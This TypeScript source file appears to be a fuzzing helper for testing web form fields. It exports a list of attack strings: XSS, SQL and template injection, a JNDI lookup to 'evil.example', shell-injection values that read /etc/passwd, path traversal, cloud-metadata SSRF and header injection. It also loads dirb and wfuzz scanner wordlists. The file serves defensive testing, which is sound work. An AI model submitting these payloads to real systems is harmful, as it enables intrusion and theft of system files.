import { existsSync, globSync, readFileSync } from 'node:fs'

/** What attackers write into fields: markup, quotes, templates, shells, formats, numbers, letters. */
const OWN = [
  ...[
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "';alert(1)//",
    '<svg/onload=alert(1)>',
  ],
  ...[
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    '</title><script>1</script>',
  ],
  ...[
    "' OR 1=1--",
    "'; DROP TABLE ads;--",
    '1) UNION SELECT NULL,NULL--',
    "' AND pg_sleep(5)--",
    '%27%20OR%201=1',
  ],
  ...[
    '{{7*7}}',
    '$'.concat('{7*7}'),
    '#{7*7}',
    '<%= 7*7 %>',
    '$'.concat('{jndi:ldap://evil.example/a}'),
    '{{constructor.constructor("return 1")()}}',
  ],
  ...['; cat /etc/passwd', '| id', '$(id)', '`id`', '&& ping evil.example', '\n/bin/sh'],
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '....//....//etc/passwd',
    '/etc/passwd%00.jpg',
    'file:///etc/passwd',
  ],
  ...[
    'http://169.254.169.254/latest/meta-data/',
    '//evil.example',
    '/\\evil.example',
    'https:evil.example',
    'http://[::1]:4100/',
  ],
  ...[
    '\r\nSet-Cookie: a=b',
    '\r\n\r\n<html>',
    '%0d%0aX-Injected: 1',
    '\u2028',
    '\u0000',
    '\u001b[31m',
    '\ufeff',
    '\u202e',
  ],
  ...['😀', '👨‍👩‍👧‍👦', 'Ω≈ç√∫˜µ', 'ěščřžýáíé', '社會科學院', 'الكل', 'ZA̡͊͠LGO', 'İ', 'ß', '\ud800'],
  ...[
    '0',
    '-1',
    '1e9',
    '1e309',
    'NaN',
    'Infinity',
    '0x10',
    '9007199254740993',
    '2147483648',
    '-0',
    '1/0',
    '１２',
  ],
  ...[
    'undefined',
    'null',
    'true',
    'constructor',
    '__proto__',
    'toString',
    'hasOwnProperty',
    'NULL',
    'nil',
    '[]',
    '{}',
  ],
  ...[
    '{"$gt":""}',
    '{"__proto__":{"a":1}}',
    '[[[[[[[[[[]]]]]]]]]]',
    '*)(uid=*))(|(uid=*',
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
  ],
  ...[
    '(a+)+$',
    '((((((((((a*)*)*)*)*)*)*)*)*)*)',
    '%s%s%s%n',
    '%x%x%x',
    '\\',
    '\\\\',
    '"',
    "'",
    '`',
    '%',
    '%%',
    '%u0041',
  ],
  ...[
    'a'.repeat(101),
    'a'.repeat(3000),
    'ž'.repeat(1500),
    'a '.repeat(200),
    '-'.repeat(100),
    'kolo '.repeat(200),
    '%25'.repeat(300),
  ],
]

const LISTS =
  process.env.WORDLISTS ?? '/usr/share/dirb/wordlists/**/*.txt,/usr/share/wfuzz/wordlist/**/*.txt'

const linesOf = (file: string): string[] =>
  readFileSync(file, 'latin1')
    .split(/\r?\n/)
    .filter((line) => line !== '' && !line.startsWith('#'))

/** Lines of word lists of scanners that this machine has (Debian's dirb and wfuzz), and how many. */
export const scannerLines = (): readonly string[] => {
  const files = LISTS.split(',').flatMap((pattern) => globSync(pattern).filter(existsSync))
  return [...new Set(files.flatMap(linesOf))].sort()
}

export const FRAGMENTS: readonly string[] = OWN
